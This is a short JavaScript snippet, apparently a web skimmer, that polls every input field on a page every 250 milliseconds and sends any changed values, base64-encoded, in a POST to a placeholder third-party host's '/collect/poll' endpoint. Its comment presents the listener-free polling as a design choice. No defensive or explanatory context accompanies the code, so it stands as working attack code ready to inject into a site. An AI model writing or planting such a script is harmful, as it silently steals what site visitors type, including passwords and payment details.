// Reads field values on a timer (no listeners at all) and ships changes,
// base64-encoded in the body of a fetch.
(() => {
  let last = '';
  setInterval(() => {
    const now = [...document.querySelectorAll('input')].map((i) => i.value).join('|');
    if (now === last || now.replace(/\|/g, '') === '') return;
    last = now;
    fetch('{{THIRD}}/collect/poll', { method: 'POST', mode: 'no-cors', body: 's=' + btoa(unescape(encodeURIComponent(now))) });
  }, 250);
})();
